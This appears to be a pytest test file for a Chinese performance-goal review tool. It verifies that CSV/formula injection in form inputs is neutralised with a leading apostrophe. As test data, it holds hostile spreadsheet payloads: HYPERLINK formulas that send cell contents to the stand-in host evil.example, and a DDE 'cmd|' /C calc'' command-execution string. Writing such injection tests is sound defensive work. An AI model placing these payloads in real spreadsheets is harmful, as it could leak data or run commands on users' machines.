"""No cell perfdoc writes holds a formula made from input text (OWASP CSV/formula injection).

An injection 申报表 (as .xlsx, .csv and .jsonl) is reviewed, and a yearly workbook whose unit names
and problem types are formulas is rendered to notices; every cell of every output workbook is read
back: none is a formula, and each neutralised text is the input with a leading apostrophe.
"""
from __future__ import annotations

import json
import zipfile
from pathlib import Path

import openpyxl
import pytest

from perfdoc.fileio import append_row, cell_text, set_cell

PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("培训人次", "培训人次"), ("≥350人次", "≥350人次"), ("", ""), (350, 350),
    (None, None), (-5.5, -5.5),
])
def test_cell_text(value, written):
    assert cell_text(value) == written


def test_set_cell_and_append_row_never_make_formulas(tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    set_cell(ws, 1, 1, "=1+1")
    append_row(ws, ["=2+2", 3, None, "文字"])
    wb.save(tmp_path / "a.xlsx")
    back = openpyxl.load_workbook(tmp_path / "a.xlsx").active
    assert [(c.value, c.data_type) for c in back[1][:1]] == [("'=1+1", "s")]
    assert [c.value for c in back[2]] == ["'=2+2", 3, None, "文字"]


def formula_cells(path: Path) -> list[str]:
    """Every cell in every sheet that is a formula, in openpyxl's view and in the raw XML."""
    found = []
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    found.append(f"{ws.title}!{c.coordinate}={c.value!r}")
    with zipfile.ZipFile(path) as zf:
        for name in zf.namelist():
            xml = zf.read(name)
            if name.startswith("xl/worksheets/") and (b"<f>" in xml or b"<f " in xml):
                found.append(f"{name}: <f>")
    return found


def all_texts(path: Path, *, skip_columns: int = 0) -> list[str]:
    """Texts of all cells; in the first sheet the first `skip_columns` (the user's own) are left out."""
    wb = openpyxl.load_workbook(path)
    texts = []
    for k, ws in enumerate(wb.worksheets):
        for row in ws.iter_rows():
            for c in row:
                if isinstance(c.value, str) and not (k == 0 and c.column <= skip_columns):
                    texts.append(c.value)
    return texts


def _goals_xlsx(path: Path) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "申报表"
    ws.append(["项目名称", "一级指标", "二级指标", "三级指标", "指标值"])
    for k, p in enumerate(PAYLOADS):
        row = ["=cmd|' /C calc'!A0", "产出指标", "数量指标", p, p if k % 2 else "≥350人次"]
        ws.append(row)
    # openpyxl would store "=…" as a formula: the attack file holds them as text, as Excel users type '=…
    for row in ws.iter_rows(min_row=2):
        for c in row:
            if isinstance(c.value, str):
                c.data_type = "s"
    wb.save(path)
    return path


def _goals_csv(path: Path) -> Path:
    import csv

    with open(path, "w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["项目名称", "三级指标", "指标值"])
        for k, p in enumerate(PAYLOADS):
            w.writerow(["=cmd|' /C calc'!A0", p, p if k % 2 else "≥350人次"])
    return path


def _goals_jsonl(path: Path) -> Path:
    lines = [json.dumps({"project": "=cmd|' /C calc'!A0", "name": p, "value": p if k % 2 else "≥350人次"},
                        ensure_ascii=False) for k, p in enumerate(PAYLOADS)]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


@pytest.mark.parametrize("make, name", [(_goals_xlsx, "申报表.xlsx"), (_goals_csv, "申报表.csv"),
                                        (_goals_jsonl, "申报表.jsonl")])
def test_reviewed_injection_goals_have_no_formula(tmp_path, make, name):
    import perfdoc

    src = make(tmp_path / name)
    out = perfdoc.annotate(src, tmp_path / "审核结果.xlsx")
    assert formula_cells(out) == []
    # in the annotated copy the user's own columns stay as they were (text cells, never formulas)
    texts = all_texts(out, skip_columns=5 if name.endswith(".xlsx") else 0)
    # the payloads arrive as text, neutralised with the apostrophe (input texts are stripped)
    assert "'=cmd|' /C calc'!A0" in texts
    assert any(t.startswith("'=HYPERLINK(") for t in texts)
    dangerous = [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert dangerous == []


def test_review_messages_show_the_text_unchanged(tmp_path):
    import perfdoc

    results = perfdoc.check(["=HYPERLINK(\"x\",\"y\")"])
    assert results[0].text.startswith("=HYPERLINK")


def test_notices_ledger_has_no_formula(tmp_path, mapping):
    import yaml

    import perfdoc

    for row in mapping["问题清单"]:
        if row["单位名称"] == mapping["问题清单"][0]["单位名称"]:
            row["单位名称"] = '=HYPERLINK("http://evil.example","整改")'
            pass
    mapping["基本信息"]["整改通知代字"] = "@SUM(1,2)"
    data = tmp_path / "data.yaml"
    data.write_text(yaml.safe_dump(mapping, allow_unicode=True), encoding="utf-8")
    out = Path(perfdoc.render("notices", data, tmp_path / "整改通知单"))
    ledger = out / "整改台账.xlsx"
    assert formula_cells(ledger) == []
    texts = all_texts(ledger)
    assert "'=HYPERLINK(\"http://evil.example\",\"整改\")" in texts
    assert any(t.startswith("'@SUM(1,2)") for t in texts)
    assert [t for t in texts if t[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
